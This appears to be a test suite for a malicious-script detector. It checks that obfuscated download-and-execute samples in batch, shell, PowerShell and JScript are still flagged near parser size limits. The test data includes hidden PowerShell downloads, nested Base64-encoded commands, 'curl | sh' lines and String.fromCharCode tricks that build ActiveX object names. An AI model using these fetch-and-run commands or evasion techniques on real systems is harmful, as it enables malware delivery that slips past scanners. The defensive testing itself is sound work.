/** At a limit of the readers of shells a download is found; one past it as well, or the document is not clean. */

import assert from 'node:assert/strict'
import { suite, test } from 'node:test'
import { VALUES_MAX } from '#inspect/judge/scripts/downloads.ts'
import { SCRIPT_MAX } from '#inspect/judge/scripts/host-scripts.ts'
import { NESTED_MAX } from '#inspect/judge/scripts/powershell.ts'
import { ALTERNATIVES_MAX, LINE_MAX } from '#inspect/programs/shells/batch.ts'
import { TEXT_MAX } from '#inspect/programs/shells/powershell/splitting.ts'
import { ourInspector } from '#inspect/testing/inspector.ts'
import { SENT_MAX } from './script.ts'

const inspector = await ourInspector()
const EVIL = 'powershell -w hidden iwr http://192.0.2.1/a'
const URL = 'http://192.0.2.1/a.exe'
const each = (count: number, of: (index: number) => string): string =>
  Array.from({ length: count }, (_, i) => of(i)).join('')
const LOAD = `(New-Object Net.WebClient).DownloadString("${URL}")`

function isFound(source: string, name: string): boolean {
  const { findings, obstacle } = inspector.inspect(Buffer.from(source, 'latin1'), { name })
  return findings[0]?.severity === 'malicious' || obstacle !== null
}

function encoded(command: string, times: number): string {
  if (times === 0) return command
  return `powershell -enc ${Buffer.from(encoded(command, times - 1), 'utf16le').toString('base64')}`
}

interface Row {
  file: string
  max: number
  of: (count: number) => string
}

const ROWS: Readonly<Record<string, Row>> = {
  'values of a variable of a batch file': {
    file: 'a.bat',
    max: ALTERNATIVES_MAX,
    of: (count) =>
      `@echo off\nset p=${EVIL}\n${each(count - 1, (i) => `if "%1"=="${i}" set p=notepad ${i}.txt\n`)}%p%\n`,
  },
  'commands in Base64 within each other': { file: 'a.ps1', max: NESTED_MAX, of: (count) => encoded(EVIL, count) },
  'values of a variable of a shell': {
    file: 'a.sh',
    max: VALUES_MAX,
    of: (count) =>
      `#!/bin/sh\nu=${URL}\n${each(count - 1, (i) => `if [ $1 = ${i} ]; then u=https://example.com/${i}; fi\n`)}curl -o /tmp/a $u\nsh /tmp/a\n`,
  },
  'characters of a text of PowerShell': {
    file: 'a.ps1',
    max: TEXT_MAX,
    of: (count) => `iex ('${'#'.repeat(count - 2 - LOAD.length)}${LOAD}'.replace('#',''))\n`,
  },
  'characters of a text of PowerShell on both sides': {
    file: 'a.ps1',
    max: TEXT_MAX,
    of: (count) => {
      const half = '#'.repeat((count - 2 - LOAD.length) / 2)
      return `iex ('${half}${LOAD}${half}'.replace('#',''))\n`
    },
  },
}

suite('at the limit, one past it and far past it', () => {
  for (const [name, { file, max, of }] of Object.entries(ROWS))
    test(name, () => {
      for (const count of [max, max + 1, max * 3]) assert.ok(isFound(of(count), file), String(count))
    })
})

test('a shell that is one of many objects is found', () => {
  const others = (count: number): string => each(count, (i) => `if(this.u${i})c="Msxml2.A${i}";`)
  for (const count of [1, 6, 7, 8, 12, 40]) {
    const start = `new ActiveXObject(c).Run("${EVIL}",0)`
    assert.ok(isFound(`var c="Msxml2.A";${others(count)}if(!this.v)c="WScript.Shell";${start}`, 'a.js'), String(count))
  }
})

suite('a statement of any length', () => {
  for (const length of [10, 4_000, 4_001, 50_000]) {
    test(`with ${length} blanks`, () =>
      assert.ok(isFound(`#!/bin/sh\ncurl ${' '.repeat(length)} -o /tmp/a ${URL} && sh /tmp/a\n`, 'a.sh')))
    test(`with ${length} letters`, () =>
      assert.ok(isFound(`#!/bin/sh\ncurl -H "${'x'.repeat(length)}" ${URL} | sh\n`, 'a.sh')))
    test(`with a loop over addresses of ${length} characters`, () => {
      const others = 'https://example.com/a '.repeat(Math.ceil(length / 22))
      assert.ok(isFound(`#!/bin/sh\nfor u in ${others}${URL}; do curl $u | sh; done\n`, 'a.sh'))
      assert.ok(!isFound(`#!/bin/sh\nfor u in ${others}; do curl -O $u; done\n`, 'a.sh'))
    })
  }
  test('that Windows does not run because it is too long', () => {
    const of = (length: number): string => `@echo off\n${EVIL.padEnd(length, ' ')}\n`
    assert.ok(isFound(of(LINE_MAX), 'a.bat'))
  })
})

suite('a script with syntax that the script host takes for an error', () => {
  const padded = (code: string, length: number): string => `${code}\n//${'x'.repeat(length - code.length - 3)}`
  const pieces = `var o = new this["Active" + "XObject"]("WS" + "cript.Shell"); o.Run("${EVIL}")`
  const named = `f = () => 1; const o = new ActiveXObject("WScript.Shell"); o.Run("${EVIL}")`
  test('is followed up to a length, whatever it names', () => {
    assert.ok(isFound(padded(`${pieces}; f = () => 1`, SENT_MAX), 'a.js'))
    assert.ok(!isFound(padded(`${pieces}; f = () => 1`, SENT_MAX + 1), 'a.js'))
  })
  test('is followed past it if it names objects of Windows', () =>
    assert.ok(isFound(padded(named, SENT_MAX * 2), 'a.js')))
  test('is another one than a script that runs', () => assert.ok(isFound(padded(pieces, SENT_MAX * 2), 'a.js')))
  for (const label of ['"active"', "'activeElement'", '"XObject"', 'activeX', 'getWindowScroll'])
    test(`and the word ${label} needs no evaluation`, () => {
      const loop = 'function f(a) { return a.x(f(a.y), f(a.z)) + g(a) } function g(a) { return f(a.b) + f(a.c) } '
      assert.ok(!isFound(`f = () => [${label}]; ${loop.repeat(700)} eval(g(1))`, 'a.js'))
    })
})

suite('a long script that makes the names of objects', () => {
  const made = (name: string): string => `String.fromCharCode(${name.split('').map((each) => each.charCodeAt(0))})`
  const run = (all: string): string => `new ${all}[${made('ActiveXObject')}](${made('WScript.Shell')}).Run('${EVIL}')`
  const ways = {
    'after tests for other hosts': `(function(r,f){if(typeof exports==='object')module.exports=f();else if(typeof define==='function'&&define.amd)define(f);else f(r)})(this,function(r){${run('r')}})`,
    'where there is no page': `var all=this;if(typeof window==='undefined'){${run('all')}}`,
    'before a variable that its host lacks': `var all=this;${run('all')};window.x=1`,
    'in a try around such a variable': `var all=this;try{window.x=1}catch(e){${run('all')}}`,
  }
  const filler = Array.from({ length: 1_500 }, (_, i) => `function f${i}(a,b){return a.x${i}+b.y}`).join('\n')
  for (const [way, source] of Object.entries(ways))
    for (const [place, text] of Object.entries({ before: `${source}\n${filler}`, after: `${filler}\n${source}` }))
      test(`${way}, ${place} others`, () => {
        assert.ok(text.length > SCRIPT_MAX)
        assert.ok(isFound(text, 'a.js'))
      })
  test('after it has ended is never run', () =>
    assert.ok(!isFound(`${filler}\nwindow.x=1;var all=this;${run('all')}`, 'a.js')))
})
